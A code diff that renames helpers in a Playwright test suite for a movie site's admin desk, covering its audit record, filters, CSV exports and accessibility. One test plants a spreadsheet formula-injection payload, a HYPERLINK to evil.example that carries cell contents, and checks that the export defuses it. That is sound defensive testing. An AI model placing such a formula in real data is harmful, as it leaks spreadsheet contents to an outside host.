@@ -2,16 +2,16 @@ import { readFile } from 'node:fs/promises'
 import type { Locator, Page } from '@playwright/test'
 import type { DeskMovie } from '../packages/contract/src/desk-movies.ts'
 import { expectAccessibleAtAnyWidth } from './accessibility.ts'
-import { type Admin, aLoggedInAdmin, askAsAdmin, deskScreen, openDesk } from './at-the-desk.ts'
+import { type Admin, createAdmin, callAsAdmin, deskScreen, openDesk } from './admins.ts'
 import { readCsv } from './csv.ts'
-import { expect, here, navigate, test } from './test-app.ts'
-import { aLoggedInMember } from './members.ts'
-import { aSubscriber } from './premium.ts'
+import { expect, currentServer, navigate, test } from './test-app.ts'
+import { createMember } from './members.ts'
+import { createSubscriber } from './premium.ts'
 
-test.use({ expectedTrouble: /status of (401|500|503)|ERR_EMPTY_RESPONSE/ })
+test.use({ expectedErrors: /status of (401|500|503)|ERR_EMPTY_RESPONSE/ })
 
 let admin: Admin
-test.beforeAll(async () => void (admin = await aLoggedInAdmin()))
+test.beforeAll(async () => void (admin = await createAdmin()))
 
 const panel = deskScreen
 const entries = (page: Page) =>
@@ -39,23 +39,23 @@ const draft = (title: string) => ({
   genres: ['Drama'],
   year: 1999,
   rating: 7.1,
-  imageUrl: `${here().url}/placeholder-movie.jpg`,
-  videoUrl: `${here().url}/no-such-trailer.mp4`,
+  imageUrl: `${currentServer().url}/placeholder-movie.jpg`,
+  videoUrl: `${currentServer().url}/no-such-trailer.mp4`,
 })
-const aTitle = (name: string) => `${name} ${process.pid.toString(36)}${made++}`
+const newTitle = (name: string) => `${name} ${process.pid.toString(36)}${made++}`
 /** What is added here is taken away again. */
 const added = new Set<string>()
 const addMovie = async (by: Admin, title: string) => {
-  const { movie } = await askAsAdmin<{ movie: DeskMovie }>(by, 'POST', '/api/movies', draft(title))
+  const { movie } = await callAsAdmin<{ movie: DeskMovie }>(by, 'POST', '/api/movies', draft(title))
   added.add(movie._id)
   return movie
 }
-const takeAway = async (by: Admin, id: string) => {
+const deleteMovie = async (by: Admin, id: string) => {
   added.delete(id)
-  await askAsAdmin(by, 'DELETE', `/api/movies/${id}`)
+  await callAsAdmin(by, 'DELETE', `/api/movies/${id}`)
 }
 test.afterEach(async () => {
-  for (const id of added) await takeAway(admin, id)
+  for (const id of added) await deleteMovie(admin, id)
 })
 
 test('what is done at the desk stands on record: who, what, before and after, when and from where @full', async ({
@@ -63,16 +63,16 @@ test('what is done at the desk stands on record: who, what, before and after, wh
   isMobile,
 }) => {
   test.slow()
-  const own = await aLoggedInAdmin()
-  const title = aTitle('The Letter')
+  const own = await createAdmin()
+  const title = newTitle('The Letter')
   const movie = await addMovie(own, title)
   const later = `${title} Found`
-  await askAsAdmin(own, 'PUT', `/api/movies/${movie._id}`, {
+  await callAsAdmin(own, 'PUT', `/api/movies/${movie._id}`, {
     ...draft(later),
     year: 2001,
     description: draft(later).description.replace('a winter', 'two long winters'),
   })
-  await takeAway(own, movie._id)
+  await deleteMovie(own, movie._id)
 
   await openDesk(page, own, 'tab=record&by=me')
   const changed = entry(page, 'Changed a movie', later)
@@ -117,13 +117,13 @@ test('what is done at the desk stands on record: who, what, before and after, wh
 
 test('filters by action and by who, kept in the address; what fits nothing says so @full', async ({ page }) => {
   test.slow()
-  const [own, other] = [await aLoggedInAdmin(), await aLoggedInAdmin()]
-  const mine = aTitle('Mine')
-  const theirs = aTitle('Theirs')
+  const [own, other] = [await createAdmin(), await createAdmin()]
+  const mine = newTitle('Mine')
+  const theirs = newTitle('Theirs')
   const movie = await addMovie(own, mine)
   const { _id: foreign } = await addMovie(other, theirs)
-  await takeAway(other, movie._id)
-  await takeAway(other, foreign)
+  await deleteMovie(other, movie._id)
+  await deleteMovie(other, foreign)
   await openDesk(page, own, 'tab=record')
   await expect(entry(page, 'Added a movie', mine)).toBeVisible()
   await expect(entry(page, 'Added a movie', theirs)).toBeVisible()
@@ -158,7 +158,7 @@ test('filters by action and by who, kept in the address; what fits nothing says 
 })
 
 /** Presses the button and opens what was saved. */
-async function exported(page: Page, name: RegExp) {
+async function downloadRows(page: Page, name: RegExp) {
   const saved = page.waitForEvent('download')
   await panel(page).getByRole('button', { name: 'Export CSV' }).click()
   const download = await saved
@@ -176,20 +176,20 @@ async function exported(page: Page, name: RegExp) {
 
 test('movies, subscribers and the record are taken along as CSV, and no cell is a formula @full', async ({ page }) => {
   test.slow()
-  const own = await aLoggedInAdmin()
+  const own = await createAdmin()
   const formula = `=HYPERLINK("https://evil.example/?x="&A1,"Click, ${process.pid}.${made++}")`
   await addMovie(own, formula)
-  const member = await aLoggedInMember(page.request)
-  await aSubscriber(page, 'yearly')
+  const member = await createMember(page.request)
+  await createSubscriber(page, 'yearly')
 
   await openDesk(page, own, 'tab=movies')
-  const movies = await exported(page, /^movies-\d{4}-\d\d-\d\d\.csv$/)
+  const movies = await downloadRows(page, /^movies-\d{4}-\d\d-\d\d\.csv$/)
   const titles = movies.rows.map((row) => row[movies.head.findIndex((name) => /title/i.test(name))])
   expect(titles).toContain(`'${formula}`)
 
   await navigate(page, '/admin/dashboard?tab=subscribers&plan=yearly')
   await expect(panel(page).locator('tbody [data-cell=plan]').first()).toHaveText('Yearly')
-  const people = await exported(page, /^subscribers-\d{4}-\d\d-\d\d\.csv$/)
+  const people = await downloadRows(page, /^subscribers-\d{4}-\d\d-\d\d\.csv$/)
   expect(people.rows.length).toBeGreaterThan(5)
   const plan = people.head.findIndex((name) => /plan|type/i.test(name))
   expect(new Set(people.rows.map((row) => row[plan]?.toLowerCase()))).toEqual(new Set(['yearly']))
@@ -198,7 +198,7 @@ test('movies, subscribers and the record are taken along as CSV, and no cell is 
   await navigate(page, '/admin/dashboard?tab=record&by=me')
   await expect(entry(page, 'Exported movies', '')).toBeVisible()
   await expect(entry(page, 'Exported subscribers', '')).toBeVisible()
-  const record = await exported(page, /^record-\d{4}-\d\d-\d\d\.csv$/)
+  const record = await downloadRows(page, /^record-\d{4}-\d\d-\d\d\.csv$/)
   expect(JSON.stringify(record.rows)).toContain('movie.add')
 
   for (const { rows } of [movies, people, record])
@@ -207,8 +207,8 @@ test('movies, subscribers and the record are taken along as CSV, and no cell is 
 
 test('THEME-5 axe finds nothing wrong with the record, and it fits 320 px @full', async ({ page }) => {
   test.slow()
-  const { _id: id } = await addMovie(admin, aTitle('Axe'))
-  await takeAway(admin, id)
+  const { _id: id } = await addMovie(admin, newTitle('Axe'))
+  await deleteMovie(admin, id)
   await openDesk(page, admin, 'tab=record&action=movie.add')
   await expect(entries(page).first()).toBeVisible()
   await open(entries(page).first())
